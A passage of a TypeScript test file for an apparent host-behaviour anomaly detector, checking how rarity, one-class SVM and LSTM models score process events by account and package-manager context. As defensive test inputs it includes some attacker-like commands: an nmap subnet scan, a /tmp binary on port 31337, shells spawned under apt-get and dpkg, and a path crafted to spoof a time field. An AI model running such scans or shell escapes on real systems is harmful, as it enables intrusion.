          proc('deploy', '/usr/bin/rsync', 'rsync -a <*> <*>', day + 150 + i * 60),
        );
        train.push(proc('svc', '/usr/bin/df', 'df -h', day + 170 + i * 60));
        if (histories) train.push(typed('ops', 'tail -n <*> <*>', day + 121 + i * 60));
      }
    }
    const m = createModel('rarity');
    await m.fit(train.map((e) => [e]));
    return async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
  };
  const at = start + 10 * DAY + 10 * 3600;
  const score = await fit(true);
  const person = await score(proc('ops', '/usr/bin/htop', 'htop', at));
  const automation = await score(proc('deploy', '/usr/bin/htop', 'htop', at));
  const service = await score(proc('svc', '/usr/bin/htop', 'htop', at));
  t.ok(person.value < 0.6 * service.value, `the person's new tool counts half (${person.value.toFixed(2)} against ${service.value.toFixed(2)})`);
  t.ok(automation.value > 0.9 * service.value, `an account that logs in and never typed at a shell here is weighed in full (${automation.value.toFixed(2)})`);
  t.notMatch(automation.detail, /an account that logs in here/, automation.detail);
  // a host whose shell histories are not collected says nothing of who types: login records decide
  const none = await fit(false);
  const loggedIn = await none(proc('deploy', '/usr/bin/htop', 'htop', at));
  const svc = await none(proc('svc', '/usr/bin/htop', 'htop', at));
  t.ok(
    loggedIn.value < 0.6 * svc.value,
    `without shell histories, an account that logs in keeps the discount (${loggedIn.value.toFixed(2)} against ${svc.value.toFixed(2)})`,
  );
});

t.test("rarity: in a package manager's run, values count half and classes in full; typed shell code is anyone's (rowfix)", async (t) => {
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const proc = (who: string, exe: string, parent: string, cmd: string, time: number, extra: string[] = []): BehaviourEvent => ({
    key: `exec ${exe} <- ${parent}`,
    values: ['kind=process', `exe=${exe}`, `parent=${parent}`, `cmd=${cmd}`, 'exeloc=system', `who=${who}`, ...extra],
    pairs: [`parent=${parent}>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`, `who=${who}>kind=process`],
    text: '',
    time,
  });
  const routine: Array<[string, string, string, string]> = [
    ['ops', '/usr/bin/systemctl', '/usr/bin/sudo', 'systemctl reload nginx'],
    ['ops', '/usr/bin/tail', '/bin/bash', 'tail -n <*> <*>'],
    ['root', '/usr/bin/apt-get', '/bin/sh', 'apt-get -qq update'],
    ['root', '/bin/sh', '/usr/sbin/cron', '/bin/sh -c run-parts /etc/cron.hourly'],
  ];
  const train: BehaviourEvent[] = [];
  for (let d = 0; d < 10; d++) {
    train.push(loginRecord('ops', start + d * DAY + 9 * 3600));
    for (let i = 0; i < 200; i++) train.push(proc(...routine[i % routine.length], start + d * DAY + 9 * 3600 + i * 60));
  }
  const m = createModel('rarity');
  await m.fit(train.map((e) => [e]));
  const at = start + 10 * DAY + 10 * 3600;
  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
  const helper = ['ops', '/usr/bin/dpkg-deb', '/usr/bin/dpkg', 'dpkg-deb --fsys-tarfile <*>'] as const;
  const outside = await score(proc(...helper, at));
  const inside = await score(proc(...helper, at, [IN_PACKAGE_RUN]));
  t.ok(
    inside.value < 0.6 * outside.value,
    `a package's helper in the run (${inside.value.toFixed(2)}) weighs half what it does outside one (${outside.value.toFixed(2)})`,
  );
  // a new kind in the run (a program in /tmp) is counted as anywhere
  const temp = ['ops', '/tmp/x', '/usr/bin/dpkg', 'x'] as const;
  const tempOutside = await score({ ...proc(...temp, at), values: proc(...temp, at).values.map((v) => (v === 'exeloc=system' ? 'exeloc=temp' : v)) });
  const tempInside = await score({
    ...proc(...temp, at, [IN_PACKAGE_RUN]),
    values: proc(...temp, at, [IN_PACKAGE_RUN]).values.map((v) => (v === 'exeloc=system' ? 'exeloc=temp' : v)),
  });
  t.ok(
    tempInside.value > 0.8 * tempOutside.value,
    `a program in /tmp in the run (${tempInside.value.toFixed(2)}) weighs about as outside (${tempOutside.value.toFixed(2)}): only the next strongest token, a value, is halved`,
  );
  t.match(tempInside.detail, /^new kind of behaviour: executable location `temp`/, tempInside.detail);
  // a shell given code, or none, below a package manager (a pager's `!sh`) runs what someone typed
  for (const cmd of ['sh -c id', 'sh']) {
    const shell = ['ops', '/bin/sh', '/usr/bin/apt-get', cmd] as const;
    const a = await score(proc(...shell, at));
    const b = await score(proc(...shell, at, [IN_PACKAGE_RUN]));
    t.ok(b.value > 0.9 * a.value, `\`${cmd}\` below apt-get (${b.value.toFixed(2)}) weighs as elsewhere (${a.value.toFixed(2)})`);
  }
  const script = ['ops', '/bin/sh', '/usr/bin/dpkg', 'sh /var/lib/dpkg/info/<*>.postinst configure'] as const;
  const s1 = await score(proc(...script, at));
  const s2 = await score(proc(...script, at, [IN_PACKAGE_RUN]));
  t.ok(s2.value < 0.6 * s1.value, `a maintainer script run as a file by sh (${s2.value.toFixed(2)}) is the package's (${s1.value.toFixed(2)})`);
  // (review13) a shebang's option (`#!/bin/sh -e`) comes before the file; a code option does not make it one
  const shebang = ['ops', '/bin/sh', '/usr/bin/dpkg', 'sh -e /var/lib/dpkg/info/<*>.postinst configure'] as const;
  const [e1, e2] = [await score(proc(...shebang, at)), await score(proc(...shebang, at, [IN_PACKAGE_RUN]))];
  t.ok(e2.value < 0.6 * e1.value, `a maintainer script run by \`sh -e\` (${e2.value.toFixed(2)}) is the package's (${e1.value.toFixed(2)})`);
  const coded = ['ops', '/bin/sh', '/usr/bin/dpkg', 'sh -e -c /var/tmp/x'] as const;
  const [c1, c2] = [await score(proc(...coded, at)), await score(proc(...coded, at, [IN_PACKAGE_RUN]))];
  t.ok(c2.value > 0.9 * c1.value, `\`sh -e -c …\` (${c2.value.toFixed(2)}) weighs as elsewhere (${c1.value.toFixed(2)})`);
  // the condition is no evidence: an event that carries it has the SVM vector it has without
  t.same(hashEvent(proc(...helper, at, [IN_PACKAGE_RUN]), [], 512), hashEvent(proc(...helper, at), [], 512), 'the SVM does not see it');
});

/** hashEvent as it was written first: each token built as a string, hashed whole, summed in a Map */
function hashEventByStrings(event: BehaviourEvent, context: readonly BehaviourEvent[], dims: number): { index: number[]; value: number[] } {
  const acc = new Map<number, number>();
  const add = (token: string, weight: number) => {
    const h = fnv1a32(token);
    acc.set(h % dims, (acc.get(h % dims) ?? 0) + (h & 0x80000000 ? -1 : 1) * weight);
  };
  const time = (t: string) =>
    t.startsWith('hour=') ||
    t.startsWith('day=') ||
    t.startsWith('how=') ||
    ((t.startsWith('kind=') || t.startsWith('src=')) && t.includes('>hour=')) ||
    t.startsWith('who=') ||
    t.startsWith('session=') ||
    t.startsWith('pathloc=') ||
    (t.startsWith('action=') && t.includes('>pathloc='));
  for (const t of event.values) if (!time(t)) add(t, 1);
  for (const t of event.pairs) if (!time(t)) add(t, 1);
  add(`key=${event.key}`, 1);
  const n = context.length;
  if (n >= 1) add(`next1=${context[n - 1].key}>${event.key}`, 1);
  if (n >= 2) add(`next2=${context[n - 2].key}>${context[n - 1].key}>${event.key}`, 1);
  for (let j = Math.max(0, n - 5); j < n; j++) add(`ctx=${context[j].key}`, 0.5);
  const entries = [...acc].sort((a, b) => a[0] - b[0]);
  const norm = Math.sqrt(entries.reduce((s, [, v]) => s + v * v, 0)) || 1;
  return { index: entries.map(([i]) => i), value: entries.map(([, v]) => v / norm) };
}

t.test("hashEvent carries the hash across a token's parts: the same vectors, to the bit, as hashing built strings", async (t) => {
  const events = demoEvents().slice(0, 1500);
  // non-ASCII keys and values (UTF-16 code units are hashed), and a context shorter than 5
  events.push({
    key: 'exec /usr/bin/café <- /bin/🐚',
    values: ['exe=/usr/bin/café', 'hour=09-11'],
    pairs: ['exe=/usr/bin/café>hour=09-11', 'a=é>b=ü'],
    text: '',
    time: 0,
  });
  let cancelled = 0;
  for (const dims of [512, 7, 2]) {
    let same = 0;
    for (let i = 0; i < events.length; i++) {
      const context = events.slice(Math.max(0, i - (i % 9)), i);
      const got = hashEvent(events[i], context, dims);
      const want = hashEventByStrings(events[i], context, dims);
      cancelled += want.value.filter((v) => v === 0).length;
      if (JSON.stringify([Array.from(got.index), Array.from(got.value)]) === JSON.stringify([want.index, want.value])) same++;
    }
    t.equal(same, events.length, `${dims} dims: every vector identical`);
  }
  t.ok(cancelled > 0, `colliding features that cancel to 0 are kept as the Map kept them (${cancelled})`);
});

t.test("the SVM's vector keeps a program or command that holds '>hour='", async (t) => {
  // a path or a command line is the user's to name: `/opt/x>hour=2/nmap` is a program, not an hour
  const plain: BehaviourEvent = { key: 'k', values: ['kind=process', 'exeloc=system'], pairs: [], text: '', time: 0 };
  const same = (e: BehaviourEvent) => JSON.stringify(hashEvent(e, [], 512)) === JSON.stringify(hashEvent(plain, [], 512));
  t.notOk(same({ ...plain, values: [...plain.values, 'exe=/opt/x>hour=2/nmap'] }), 'the program counts');
  t.notOk(same({ ...plain, values: [...plain.values, "cmd=/usr/bin/curl <*> '>hour=1'"] }), 'the command counts');
  t.notOk(same({ ...plain, pairs: ['parent=/bin/bash>exe=/opt/x>hour=2/nmap'] }), 'the pair counts');
  t.ok(same({ ...plain, pairs: ['kind=process>hour=09-11', 'src=public:198.51>hour=09-11', 'who=ann>hour=09-11'] }), 'the time pairs are left out as before');
  t.ok(same({ ...plain, values: [...plain.values, NO_LOGIN] }), 'no login behind the process is no feature (rarity reads it as a condition only)');
});

t.test('ocsvm: libsvm trained on sparse nodes gives the model it gives on dense rows, to the bit', async (t) => {
  const events = demoEvents().slice(0, 900);
  const vectors = events.map((e, i) => hashEvent(e, events.slice(Math.max(0, i - 5), i), 512));
  for (const gamma of [0.5, 2]) {
    const sparse = await trainLibsvm(vectors, { nu: 0.05, gamma, dims: 512 });
    const dense = await trainLibsvm(vectors, { nu: 0.05, gamma, dims: 512 }, true);
    // dense rows list their zero features too ("7:0"); nothing else may differ
    const text = (svm: { serializeModel(): string }) => svm.serializeModel().replace(/ \d+:0(?= |$)/gm, '');
    const a = text(sparse);
    t.ok(/^SV$/m.test(a) && a.split('\n').length > 20, `a model with support vectors (${a.split('\n').length} lines)`);
    t.equal(a, text(dense), `gamma ${gamma}: the same model text`);
    t.same(
      sparse.predict(vectors.slice(0, 50).map((v) => Array.from({ length: 512 }, (_, k) => v.value[v.index.indexOf(k)] ?? 0))),
      dense.predict(vectors.slice(0, 50).map((v) => Array.from({ length: 512 }, (_, k) => v.value[v.index.indexOf(k)] ?? 0))),
    );
    sparse.free();
    dense.free();
  }
  // γ from the median squared distance, summed over sparse vectors: the dense sum's value
  const m = new OcsvmModel();
  await m.fit([events]);
  const seen = new Set<string>();
  const distinct = vectors.filter((v) => {
    const key = `${v.index.join(',')}|${Array.from(v.value, (x) => x.toFixed(4)).join(',')}`;
    return !seen.has(key) && seen.add(key);
  });
  const dense = distinct.map((v) => Array.from({ length: 512 }, (_, k) => v.value[v.index.indexOf(k)] ?? 0));
  const d2: number[] = [];
  for (let i = 0; i < Math.min(200, dense.length); i++) {
    const a = dense[(i * 7919) % dense.length];
    const b = dense[(i * 104729 + 1) % dense.length];
    let s = 0;
    for (let k = 0; k < 512; k++) s += (a[k] - b[k]) ** 2;
    if (s > 0) d2.push(s);
  }
  d2.sort((x, y) => x - y);
  t.equal(m.toState().gamma, 1 / d2[Math.floor(d2.length / 2)], 'gamma as from the dense vectors');
});

t.test('ocsvm: a continuous decision value that agrees with libsvm and flags an outlier', async (t) => {
  const m = new OcsvmModel({ dims: 256 });
  const train = habitual(800);
  await m.fit([train]);
  t.ok(m.fitAgreement >= 0.99, `sign agreement with libsvm's ±1 on the training data: ${(m.fitAgreement * 100).toFixed(1)} %`);
  const usual = await one(m, ev('/usr/bin/curl', '443', 7), train.slice(-5));
  const odd = await one(
    m,
    { key: 'exec /tmp/x', values: ['kind=process', 'exe=/tmp/x', 'rport=31337'], pairs: ['exe=/tmp/x>rport=31337'], text: '', time: 0 },
    [],
  );
  t.ok(odd > usual, `outlier evidence ${odd.toFixed(3)} above usual ${usual.toFixed(3)}`);
  t.ok(odd > 0, 'the outlier is outside the support (decision < 0)');
  const again = loadModel(JSON.parse(JSON.stringify(m.toState())));
  t.equal(await one(again, ev('/usr/bin/curl', '443', 7), train.slice(-5)), usual, 'a saved model scores without libsvm, identically');
});

t.test('lstm learns an order and flags a broken one', async (t) => {
  const seqs = Array.from({ length: 120 }, () => Array.from({ length: 24 }, (_, j) => sequenceEvent('ABCD'[j % 4], j)));
  const m = createModel('lstm', { epochs: 4, units: 16 });
  await m.fit(seqs);
  const ctx = seqs[0].slice(0, 9); // … A B C D A → next is B
  const [expected, broken, unseen] = await m.score([
    { event: sequenceEvent('B', 9), context: ctx },
    { event: sequenceEvent('D', 9), context: ctx },
    { event: sequenceEvent('Z', 9), context: ctx },
  ]);
  t.ok(broken.value > expected.value + 2, `A→D (${broken.value.toFixed(2)}) far less likely than A→B (${expected.value.toFixed(2)})`);
  t.ok(unseen.value >= broken.value, 'a key never seen is the strongest evidence');
  t.match(broken.detail, /`D` was (unexpected|unusual) after `A`/);
  const again = loadModel(JSON.parse(JSON.stringify(m.toState())));
  const [b2] = await again.score([{ event: sequenceEvent('D', 9), context: ctx }]);
  t.ok(Math.abs(b2.value - broken.value) < 1e-5, 'restored weights give the same scores');
});

t.test('lstm training is a sequence of steps that a caller can pace, and stops on a plateau', async (t) => {
  const seqs = Array.from({ length: 60 }, () => Array.from({ length: 16 }, (_, j) => sequenceEvent('ABC'[j % 3], j)));
  const m = new LstmModel({ units: 16, epochs: 40 });
  const steps: TrainingStep[] = [];
  for await (const step of m.train(seqs)) steps.push(step);
  const epochs = steps.at(-1)!.epoch + 1;
  t.ok(steps.length >= epochs * 16, `${steps.length} steps in ${epochs} epochs, each a separate await`);
  t.ok(epochs < 40, `an ABC rhythm is learnt before the 40-epoch cap (${epochs} epochs)`);
  t.ok(steps.at(-1)!.loss < steps[0].loss, 'the loss went down');
  const ctx = seqs[0].slice(0, 6);
  const [expected, broken] = await m.score([
    { event: sequenceEvent('A', 6), context: ctx },
    { event: sequenceEvent('C', 6), context: ctx },
  ]);
  t.ok(broken.value > expected.value + 2, 'and the model is usable once the steps are done');

  // a retrain starts from the model it replaces: one epoch is enough to keep what it knew
  const again = new LstmModel({ units: 16, epochs: 1 });
  await again.fit([...seqs, [sequenceEvent('A', 0), sequenceEvent('D', 1)]], m);
  const [e2, b2] = await again.score([
    { event: sequenceEvent('A', 6), context: ctx },
    { event: sequenceEvent('C', 6), context: ctx },
  ]);
  t.ok(b2.value > e2.value + 2, `warm-started with a new key in the vocabulary, A→C is still unlikely (${b2.value.toFixed(2)} vs ${e2.value.toFixed(2)})`);
});

t.test('training windows are counted once per distinct context', async (t) => {
  const vocab = new Map([
    ['A', 2],
    ['B', 3],
  ]);
  const seqs = [Array.from({ length: 6 }, (_, j) => sequenceEvent('AB'[j % 2], j))];
  const { fit, validation } = splitContexts(seqs, { window: 2, vocab, pad: 1, unknown: 0, maxWindows: 100 });
  t.equal(validation.contexts.length, 0, 'too few windows to hold any out');
  // windows: [pad pad]→A, [pad A]→B, [A B]→A, [B A]→B, [A B]→A, [B A]→B
  t.same(
    fit.contexts.map((c) => Array.from(c)),
    [
      [1, 1],
      [1, 2],
      [2, 3],
      [3, 2],
    ],
  );
  t.same(
    fit.next.map((m) => [...m]),
    [[[2, 1]], [[3, 1]], [[2, 2]], [[3, 2]]],
  );
});

t.test('lstm mixes in the key frequencies as much as held-out windows ask for, and no more', async (t) => {
  await selectBackend();
  const seq = (n: number, next: (i: number) => string) => Array.from({ length: n }, (_, i) => sequenceEvent(next(i), i));
  // a strict cycle: the network predicts it and the held-out windows want no frequencies in
  const cycle = new LstmModel({ units: 16, epochs: 20 });
  await cycle.fit([seq(2000, (i) => `k${i % 6}`)]);
  const cycleMix = cycle.toState().mix as number;
  t.ok(cycleMix <= 0.01, `a predictable stream: mix ${cycleMix}`);
  // independent draws: no context says anything, the frequencies are the whole truth, and a
  // network fitted to few of them is surer than it should be
  let s = 5;
  const rand = () => (s = (Math.imul(s, 1103515245) + 12345) >>> 0) / 2 ** 32;
  const noise = new LstmModel({ units: 16, epochs: 20, learningRate: 0.1 });
  await noise.fit([seq(600, () => (rand() < 0.5 ? 'a' : rand() < 0.5 ? 'b' : `c${Math.floor(rand() * 8)}`))]);
  const noiseMix = noise.toState().mix as number;
  t.ok(noiseMix >= 0.1, `a stream of independent draws: mix ${noiseMix}`);
  // a key the network rules out after a context keeps at least its share of the frequencies
  const state = noise.toState();
  const keys = state.keys as string[];
  const prior = state.prior as number[];
  const [scored] = await noise.score([{ event: sequenceEvent('c3', 0), context: seq(10, () => 'a') }]);
  const floor = -Math.log(noiseMix * prior[keys.indexOf('c3')]);
  t.ok(scored.value <= floor + 1e-6, `evidence ${scored.value.toFixed(3)} nats, at most ${floor.toFixed(3)}`);
  // a state saved before the mixture existed scores with the network alone, as it did then
  const old = { ...state };
  delete old.prior;
  delete old.mix;
  const plain = LstmModel.fromState(old);
  const again = LstmModel.fromState(state);
  const input = [{ event: sequenceEvent('b', 0), context: seq(10, (i) => (i % 2 ? 'a' : 'c1')) }];
  const p = plain.tensorProbabilities(
    new Int32Array(10).map((_, i) => keys.indexOf(i % 2 ? 'a' : 'c1')),
    1,
  )[keys.indexOf('b')];
  t.ok(Math.abs((await plain.score(input))[0].value - -Math.log(p)) < 1e-4, 'an old state: −log p of the network');
  t.equal((await again.score(input))[0].value, (await noise.score(input))[0].value, 'the mixture survives a save and restore');
  // a damaged mixture is refused whole (the subject's file is then set aside), never scored with
  for (const bad of [
    { mix: 'x' },
    { mix: 1 },
    { prior: (state.prior as number[]).slice(1) },
    { prior: (state.prior as number[]).map((x, i) => (i === 3 ? null : x)) },
    { prior: undefined },
  ])
    t.throws(() => LstmModel.fromState({ ...state, ...bad }), /key-frequency mixture/, `refused: ${JSON.stringify(bad).slice(0, 60)}`);
  for (const m of [cycle, noise, plain, again]) m.dispose();
});

t.test('lstm trains inside a worker thread', async (t) => {
  const script = `
    const { parentPort } = require('worker_threads');
    const { createModel } = require(${JSON.stringify(path.join(DIST, 'scorer', 'models'))});
    const { sequenceEvent } = require(${JSON.stringify(path.join(DIST, 'scorer', 'features', 'extract'))});
    (async () => {
      const seqs = Array.from({ length: 60 }, () => Array.from({ length: 16 }, (_, j) => sequenceEvent('ABC'[j % 3], j)));
      const m = createModel('lstm', { epochs: 8, units: 16 });
      await m.fit(seqs);
      const ctx = seqs[0].slice(0, 6);
      const ev = await m.score([{ event: sequenceEvent('A', 6), context: ctx }, { event: sequenceEvent('C', 6), context: ctx }]);
      parentPort.postMessage(ev.map((e) => e.value));
    })().catch((e) => parentPort.postMessage(String(e)));`;
  const result = await new Promise<unknown>((resolve, reject) => {
    const w = new Worker(script, { eval: true });
    w.once('message', (m) => {
      resolve(m);
      void w.terminate();
    });
    w.once('error', reject);
  });
  t.ok(Array.isArray(result), `scores came back: ${JSON.stringify(result)}`);
  const [expected, broken] = result as number[];
  t.ok(broken > expected, 'and they separate the expected from the unexpected key');
});

t.test('foreign or incompatible model state is refused clearly', async (t) => {
  t.throws(() => loadModel({ name: 'gru', version: 1 } as never), /unknown model "gru"/);
  t.throws(() => loadModel({ name: 'rarity', version: 99 } as never), /version 99/);
  t.throws(() => loadModel(null as never), /not an object/);
});

t.test('in a pooled baseline, a never-seen value weighs more from an actor that never brings one', async (t) => {
  // a service account runs the same three jobs every night; a developer, every day, runs
  // their habits and one tool never seen before. Both then run the same new command.
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const pooled = (who: string, exe: string, cmd: string, time: number, extra: string[] = []): BehaviourEvent => ({
    key: `exec ${exe}`,
    values: ['kind=process', `exe=${exe}`, `cmd=${cmd}`, ...extra, `who=${who}`],
    pairs: [`exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`],
    text: '',
    time,
  });
  const JOBS = ['/usr/bin/pg_dump', '/usr/bin/gzip', '/usr/bin/rsync'];
  const train: BehaviourEvent[] = [];
  for (let d = 0; d < 14; d++) {
    const day = start + d * DAY;
    for (let i = 0; i < 3; i++) for (const job of JOBS) train.push(pooled('backup', job, `${job.split('/').pop()} -a`, day + 2 * 3600 + i * 60));
    for (let i = 0; i < 40; i++) {
      const [exe] = HABITS[i % HABITS.length];
      train.push(pooled('dev', exe, `${exe.split('/').pop()} --flag`, day + 9 * 3600 + i * 300));
    }
    train.push(pooled('dev', `/usr/bin/tool${d}`, `tool${d} run`, day + 15 * 3600));
  }
  const m = createModel('rarity');
  // a baseline's stream interleaves accounts: each event stands alone, as it is scored
  await m.fit(train.map((e) => [e]));
  const t0 = start + 14 * DAY + 12 * 3600;
  const [fromService, fromPerson] = await m.score([
    { event: pooled('backup', '/usr/bin/nmap', 'nmap -sS 10.0.0.0/24', t0), context: [] },
    { event: pooled('dev', '/usr/bin/nmap', 'nmap -sS 10.0.0.0/24', t0), context: [] },
  ]);
  t.ok(
    fromService.value > fromPerson.value + 1.5,
    `the service account's first nmap (${fromService.value.toFixed(2)}) is stronger evidence than the developer's (${fromPerson.value.toFixed(2)})`,
  );
  t.match(fromService.detail, /`backup` brought a new value in 0 of/, `reason: ${fromService.detail}`);
  t.match(fromPerson.detail, /`dev` brought a new value in 13 of/, `reason: ${fromPerson.detail}`);
  // the developer's new tools do not make a new kind of behaviour (a binary run from /tmp) routine
  const kindEvent = pooled('dev', '/usr/bin/git', 'git --flag', t0, ['exeloc=temp']);
  const [newKind] = await m.score([{ event: kindEvent, context: [] }]);
  const steady = createModel('rarity');
  await steady.fit(train.filter((e) => !e.key.includes('/tool')).map((e) => [e]));
  const [newKindSteady] = await steady.score([{ event: kindEvent, context: [] }]);
  t.ok(
    newKind.value > newKindSteady.value - 0.5,
    `a first binary from /tmp weighs as much from the developer who tries new tools (${newKind.value.toFixed(2)}) as from one who never does (${newKindSteady.value.toFixed(2)})`,
  );
  t.match(newKind.detail, /new kind of behaviour/, `reason: ${newKind.detail}`);
  // the actors' counts survive a state round trip
  const again = loadModel(JSON.parse(JSON.stringify(m.toState())));
  t.equal(
    (await again.score([{ event: pooled('backup', '/usr/bin/nmap', 'nmap -sS 10.0.0.0/24', t0), context: [] }]))[0].value,
    fromService.value,
    'state round trip keeps the actors',
  );
  // a state written before actors were counted loads, with no adjustment until they build up
  const { actors: _actors, ...older } = JSON.parse(JSON.stringify(m.toState()));
  const v2 = loadModel({ ...older, version: 2 });
  const [fromOlder] = await v2.score([{ event: pooled('backup', '/usr/bin/nmap', 'nmap -sS 10.0.0.0/24', t0), context: [] }]);
  t.notMatch(fromOlder.detail, /brought a new value/, `a version 2 state has no actor rates (${fromOlder.detail})`);
});

t.test("a value that spells `>hour=` does not pass an account's new program off as an odd hour", async (t) => {
  // isTimeField told a `who>hour` pair by `>hour=` anywhere in the token, and a program's
  // path is the attacker's to name: `who=backup>exe=/opt/x>hour=1/nmap` was a time hint
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const pooled = (who: string, exe: string, time: number): BehaviourEvent => ({
    key: `exec ${exe}`,
    values: ['kind=process', `exe=${exe}`, `hour=${Math.floor((time % DAY) / 10800)}`, `who=${who}`],
    pairs: [`who=${who}>exe=${exe}`, `who=${who}>hour=${Math.floor((time % DAY) / 10800)}`],
    text: '',
    time,
  });
  const train: BehaviourEvent[] = [];
  for (let d = 0; d < 14; d++)
    for (let i = 0; i < 20; i++) {
      train.push(pooled('backup', ['/usr/bin/pg_dump', '/usr/bin/gzip'][i % 2], start + d * DAY + 2 * 3600 + i * 60));
      train.push(pooled('dev', HABITS[i % HABITS.length][0], start + d * DAY + 9 * 3600 + i * 60));
      train.push(pooled('dev', '/opt/scan/nmap', start + d * DAY + 9 * 3600 + i * 60 + 20));
      train.push(pooled('dev', '/opt/scan>hour=2/nmap', start + d * DAY + 9 * 3600 + i * 60 + 40));
    }
  const m = createModel('rarity');
  await m.fit(train.map((e) => [e]));
  // the developer runs both every day, the backup account never did: only the `who>exe`
  // pair says so, whatever the path spells
  const t0 = start + 14 * DAY + 2 * 3600;
  const [plain, spelled] = await m.score([
    { event: pooled('backup', '/opt/scan/nmap', t0), context: [] },
    { event: pooled('backup', '/opt/scan>hour=2/nmap', t0), context: [] },
  ]);
  t.ok(plain.value > 4, `the backup account's first nmap is strong evidence (${plain.value.toFixed(2)}: ${plain.detail})`);
  t.ok(spelled.value > plain.value - 1, `and as strong from a path spelling \`>hour=\` (${spelled.value.toFixed(2)}: ${spelled.detail})`);
});

t.test("a pooled baseline's accounts are bounded like its values, and the pool stays the sum of those kept", async (t) => {
  // every uid a container runs as is an account of its own (`uid:123456`): a stream of new
  // ones must not grow the model (and its saved state) without end between retrainings
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const e = (who: string, exe: string, time: number): BehaviourEvent => ({
    key: `exec ${exe}`,
    values: ['kind=process', `exe=${exe}`, `who=${who}`],
    pairs: [`who=${who}>exe=${exe}`],
    text: '',
    time,
  });
  const m = createModel('rarity', { maxTokensPerField: 500 });
  for (let d = 0; d < 3; d++) for (let i = 0; i < 50; i++) m.observe!(e('backup', '/usr/bin/gzip', start + d * DAY + i * 60), []);
  for (let i = 0; i < 5000; i++) m.observe!(e(`uid:${100_000 + i}`, '/usr/bin/sleep', start + 3 * DAY + i), []);
  const state = m.toState() as unknown as { actors: Array<[string, number, number, number, number]> };
  t.ok(state.actors.length <= 500, `${state.actors.length} accounts kept after 5,001 seen (at most 500)`);
  t.ok(
    state.actors.some(([who]) => who === 'backup'),
    'the account with a history is kept',
  );
  const probe = { event: e('backup', '/usr/bin/nmap', start + 4 * DAY), context: [] };
  const [before] = await m.score([probe]);
  const [after] = await loadModel(JSON.parse(JSON.stringify(m.toState()))).score([probe]);
  t.equal(after.value, before.value, 'and a state round trip scores the same');
});

t.test('an account that is the whole pool has its novelty weighed as the pool does', async (t) => {
  // one account on the host: how often it brings new values is the pool's rate, so the
  // adjustment is 0 whether it brings none or some
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const ev = (who: string | null, exe: string, time: number): BehaviourEvent => ({
    key: `exec ${exe}`,
    values: ['kind=process', `exe=${exe}`, ...(who ? [`who=${who}`] : [])],
    pairs: [],
    text: '',
    time,
  });
  for (const tries of [0, 5]) {
    const train = (who: string | null) => {
      const out: BehaviourEvent[] = [];
      for (let d = 0; d < 10; d++) {
        for (let i = 0; i < 80; i++) out.push(ev(who, ['/usr/bin/ls', '/usr/bin/cat'][i % 2], start + d * DAY + i * 60));
        if (d > 0 && d <= tries) out.push(ev(who, `/usr/bin/new${d}`, start + d * DAY + 7000));
      }
      return out;
    };
    const withActor = createModel('rarity');
    await withActor.fit(train('root').map((e) => [e]));
    const without = createModel('rarity');
    await without.fit(train(null).map((e) => [e]));
    const t0 = start + 10 * DAY + 3600;
    const [a] = await withActor.score([{ event: ev('root', '/usr/bin/nmap', t0), context: [] }]);
    const [b] = await without.score([{ event: ev(null, '/usr/bin/nmap', t0), context: [] }]);
    t.ok(
      Math.abs(a.value - b.value) < 0.01,
      `${tries} new programs after the first day: ${a.value.toFixed(2)} with the account named, ${b.value.toFixed(2)} without`,
    );
  }
});

t.test("a quiet account's never-seen value is no weaker for its few events in a pool of daemons (actor)", async (t) => {
  // a node of daemons brings a new value now and then over thousands of events; a pod's user
  // ran `id` on a few days and nothing new. Its rate smoothed on its own, (0 + 1) / (n + 2),
  // read far above the pool's, and its first wget scored weaker than the daemons' would
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const ev = (who: string, exe: string, time: number): BehaviourEvent => ({
    key: `exec ${exe}`,
    values: ['kind=process', `exe=${exe}`, `who=${who}`],
    pairs: [`who=${who}>exe=${exe}`],
    text: '',
    time,
  });
  const DAEMON = ['/usr/bin/kubelet', '/usr/bin/containerd', '/usr/sbin/iptables-restore'];
  const fit = async (quietDays: number) => {
    const train: BehaviourEvent[] = [];
    for (let d = 0; d < 20; d++) {
      const day = start + d * DAY;
      for (let i = 0; i < 150; i++) train.push(ev('root', DAEMON[i % DAEMON.length], day + i * 60));
      if (d % 5 === 4) train.push(ev('root', `/usr/bin/agent${d}`, day + 20000));
      if (d >= 20 - quietDays) for (let i = 0; i < 7; i++) train.push(ev('app', '/usr/bin/id', day + 30000 + i * 60));
    }
    const m = createModel('rarity');
    await m.fit(train.map((e) => [e]));
    return m;
  };
  const t0 = start + 20 * DAY + 12 * 3600;
  const few = await fit(4);
  const [quiet, busy] = await few.score([
    { event: ev('app', '/usr/bin/wget', t0), context: [] },
    { event: ev('root', '/usr/bin/wget', t0), context: [] },
  ]);
  t.match(quiet.detail, /`app` brought a new value in 0 of 21 events/, `reason: ${quiet.detail}`);
  t.ok(
    quiet.value >= busy.value,
    `the quiet account's first wget (${quiet.value.toFixed(2)}) weighs at least the daemons' (${busy.value.toFixed(2)}), who bring new values`,
  );
});

t.test("a pooled baseline's record of accounts: a new account's first event is evidence, its later ones are judged by what they do (newacct)", async (t) => {
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const e = (who: string, exe: string, time: number, loc = 'system'): BehaviourEvent => ({
    key: `exec ${exe}`,
    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `exeloc=${loc}`, `who=${who}`],
    pairs: [`parent=/bin/bash>exe=${exe}`, `who=${who}>exe=${exe}`, `who=${who}>exeloc=${loc}`, `who=${who}>kind=process`],
    text: '',
    time,
  });
  const tools = ['/usr/bin/git', '/usr/bin/vim', '/usr/bin/make', '/usr/bin/ls'];
  const history: BehaviourEvent[][] = [];
  for (let d = 0; d < 10; d++) {
    for (let i = 0; i < 40; i++) history.push([e('backup', '/usr/bin/gzip', start + d * DAY + 3600 + i * 30)]);
